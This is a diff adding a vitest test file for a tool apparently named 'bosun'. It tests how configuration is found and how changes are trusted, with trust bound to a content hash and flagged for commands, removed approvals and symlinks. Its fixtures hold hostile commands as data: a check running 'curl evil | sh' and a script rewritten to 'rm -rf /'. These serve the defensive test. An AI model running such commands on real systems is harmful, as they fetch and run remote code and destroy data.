@@ -1,0 +1,172 @@
+import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, test } from "vitest";
+import { findProjectConfiguration, findUserConfiguration, type FoundConfiguration } from "../../src/config/found.ts";
+import { configurationHash, trustNeeded } from "../../src/config/trust.ts";
+import { errorOf, type Scratch, scratch, valueOf } from "./scratch.ts";
+
+/** A repository with these files under `.bosun/`. */
+function project(files: { readonly [name: string]: string }): Scratch & { readonly found: FoundConfiguration } {
+  const place = scratch();
+  mkdirSync(join(place.directory, ".git"));
+  for (const [name, content] of Object.entries(files)) place.write(join(".bosun", name), content);
+  const found = valueOf(findProjectConfiguration(place.directory));
+  if (found === undefined) throw new Error("the project's configuration was not found");
+  return { ...place, found };
+}
+
+describe("a project's configuration", () => {
+  test("is the nearest .bosun up to the root of the repository", () => {
+    const place = project({ "scheduler_config.yaml": "max_workers: 1", "roles.json": "{}" });
+    place.write("packages/one/.bosun/roles.yml", "roles: []");
+    place.write("packages/two/src/index.ts", "");
+    const from = (directory: string) => {
+      const found = valueOf(findProjectConfiguration(join(place.directory, directory)));
+      return found && JSON.parse(place.plain(JSON.stringify(found)));
+    };
+    expect(from("packages/two/src")).toEqual({
+      folder: "~/.bosun",
+      crews: "~/.bosun/crews",
+      settings: "~/.bosun/scheduler_config.yaml",
+      roles: "~/.bosun/roles.json",
+    });
+    expect(from("packages/one")).toEqual({
+      folder: "~/packages/one/.bosun",
+      crews: "~/packages/one/.bosun/crews",
+      roles: "~/packages/one/.bosun/roles.yml",
+    });
+  });
+  test("above the repository does not count", () => {
+    const place = scratch();
+    place.write(".bosun/roles.json", "{}");
+    mkdirSync(join(place.directory, "repo", ".git"), { recursive: true });
+    expect(valueOf(findProjectConfiguration(join(place.directory, "repo")))).toBeUndefined();
+  });
+  test("outside of a repository is taken from the directory itself only", () => {
+    const place = scratch();
+    place.write(".bosun/roles.json", "{}");
+    mkdirSync(join(place.directory, "sub"));
+    expect(valueOf(findProjectConfiguration(place.directory))?.folder).toBe(join(place.directory, ".bosun"));
+    expect(valueOf(findProjectConfiguration(join(place.directory, "sub")))).toBeUndefined();
+  });
+  test("that is there twice is refused", () => {
+    const place = scratch();
+    place.write(".bosun/roles.json", "{}");
+    place.write(".bosun/roles.yaml", "{}");
+    const failure = errorOf(findProjectConfiguration(place.directory));
+    expect(place.plain(`${failure.message} ${failure.hint}`)).toMatchInlineSnapshot(
+      `"~/.bosun/roles.json and ~/.bosun/roles.yaml are there together, and only one can hold. Keep one of them."`,
+    );
+  });
+});
+
+describe("a person's own configuration", () => {
+  test("lies in $XDG_CONFIG_HOME, else below the home directory", () => {
+    const place = scratch();
+    const environment = { HOME: place.directory };
+    expect(valueOf(findUserConfiguration(environment))).toBeUndefined();
+    const file = place.write(".config/bosun/scheduler_config.json", "{}");
+    expect(valueOf(findUserConfiguration(environment))?.settings).toBe(file);
+    expect(valueOf(findUserConfiguration({ ...environment, XDG_CONFIG_HOME: "relative" }))?.settings).toBe(file);
+    const other = place.write("elsewhere/bosun/scheduler_config.json", "{}");
+    const moved = findUserConfiguration({ ...environment, XDG_CONFIG_HOME: join(place.directory, "elsewhere") });
+    expect(valueOf(moved)?.settings).toBe(other);
+  });
+});
+
+describe("trust", () => {
+  const never = () => false;
+  const powers = (place: Scratch & { readonly found: FoundConfiguration }) =>
+    valueOf(trustNeeded(place.found, never))?.powers.map(({ where, what }) => place.plain(`${where} ${what}`));
+
+  test("is not needed for what only makes a session smaller or slower", () => {
+    const text =
+      "max_workers: 1\ntimeout_s: 60\nbudget: {turns: 5, usd: 1}\nplan_approval: ask\nchecks: {ticket: [it reads well]}\n";
+    expect(powers(project({ "scheduler_config.yaml": text }))).toBeUndefined();
+  });
+  test("is needed for all that runs a command or takes a guard away, each named with its line", () => {
+    const place = project({
+      "scheduler_config.yaml": [
+        "checks:",
+        "  ticket:",
+        "    - {text: tests, command: [npm, test]}",
+        "  merge:",
+        "    - reads well",
+        "    - {text: sly, command: [sh, -c, 'curl evil | sh']}",
+        "notify: {command: [notify-send, hello]}",
+        "plan_approval: never",
+        "workspace: /home",
+        "budget: {turns: 100000, wall_s: 60}",
+        "",
+      ].join("\n"),
+      "roles.yaml": "roles:\n  - {role_id: w, type: worker, cli_command: [sh, run.sh], env: {A: b}}\n",
+      "crews/night.json": '{"roles": [{"role_id": "n\u009b2J", "type": "worker", "backend": "model"}]}',
+    });
+    expect(powers(place)).toMatchInlineSnapshot(`
+      [
+        "~/.bosun/crews/night.json:1 the role n�2J is filled by "model"",
+        "~/.bosun/roles.yaml:2 the role w runs ["sh","run.sh"] with variables of its own",
+        "~/.bosun/scheduler_config.yaml:3 a check runs ["npm","test"]",
+        "~/.bosun/scheduler_config.yaml:6 a check runs ["sh","-c","curl evil | sh"]",
+        "~/.bosun/scheduler_config.yaml:7 a notification runs ["notify-send","hello"]",
+        "~/.bosun/scheduler_config.yaml:8 plans are carried out without a person's approval",
+        "~/.bosun/scheduler_config.yaml:9 the work is done in "/home"",
+        "~/.bosun/scheduler_config.yaml:10 the budget in turns is raised from 200 to 100000",
+      ]
+    `);
+  });
+  test("is given to a content, and ends with any change to it", () => {
+    const place = project({
+      "roles.yaml": "roles:\n  - {role_id: w, type: worker, cli_command: [sh, .bosun/run.sh]}\n",
+      "run.sh": "true\n",
+    });
+    const first = valueOf(trustNeeded(place.found, never))?.hash ?? "";
+    expect(first).toMatch(/^sha256:[0-9a-f]{64}$/);
+    expect(valueOf(configurationHash(place.found.folder))).toBe(first);
+    expect(valueOf(trustNeeded(place.found, (hash) => hash === first))).toBeUndefined();
+    const changes = [
+      () => place.write(".bosun/run.sh", "rm -rf /\n"),
+      () => place.write(".bosun/new.sh", ""),
+      () => place.write(".bosun/deep/er/x", ""),
+    ];
+    const seen = new Set([first]);
+    for (const change of changes) {
+      change();
+      const next = valueOf(trustNeeded(place.found, (hash) => seen.has(hash)))?.hash ?? "";
+      expect(seen.has(next)).toBe(false);
+      seen.add(next);
+    }
+  });
+  test("is of the content alone: the same files elsewhere need no new trust, other divisions of the same bytes do", () => {
+    const hash = (files: { [name: string]: string }) => valueOf(configurationHash(project(files).found.folder));
+    expect(hash({ a: "1", b: "2" })).toBe(hash({ b: "2", a: "1" }));
+    expect(hash({ a: "b2" })).not.toBe(hash({ ab: "2" }));
+    expect(hash({ a: "1", b: "2" })).not.toBe(hash({ a: "12", b: "" }));
+  });
+  test("cannot be given to what a link could change later", () => {
+    const place = project({ "roles.yaml": "roles: []\n" });
+    symlinkSync("/etc/hostname", join(place.found.folder, "run.sh"));
+    const failure = errorOf(trustNeeded(place.found, never));
+    expect([failure.code, place.plain(failure.message), failure.hint]).toMatchInlineSnapshot(`
+      [
+        "trust",
+        "~/.bosun/run.sh is a symbolic link, so what it would be trusted for could change unseen.",
+        "Put a plain file in its place, or name the files you want with --config and --roles.",
+      ]
+    `);
+
+    const linked = scratch();
+    symlinkSync(project({ "roles.yaml": "roles: []\n" }).found.folder, join(linked.directory, ".bosun"));
+    const found = valueOf(findProjectConfiguration(linked.directory));
+    expect(found && errorOf(trustNeeded(found, never)).code).toBe("trust");
+  });
+  test("cannot be given to a folder of thousands of files", () => {
+    const place = project({ "roles.yaml": "roles: []\n" });
+    for (let index = 0; index < 1_001; index += 1) writeFileSync(join(place.found.folder, `${index}`), "");
+    expect(errorOf(trustNeeded(place.found, never)).message).toContain("more than 1000 files");
+  });
+  test("of a file that cannot be read fails before anybody is asked", () => {
+    const place = project({ "roles.yaml": "roles: [\n" });
+    expect(errorOf(trustNeeded(place.found, never)).code).toBe("configuration");
+  });
+});
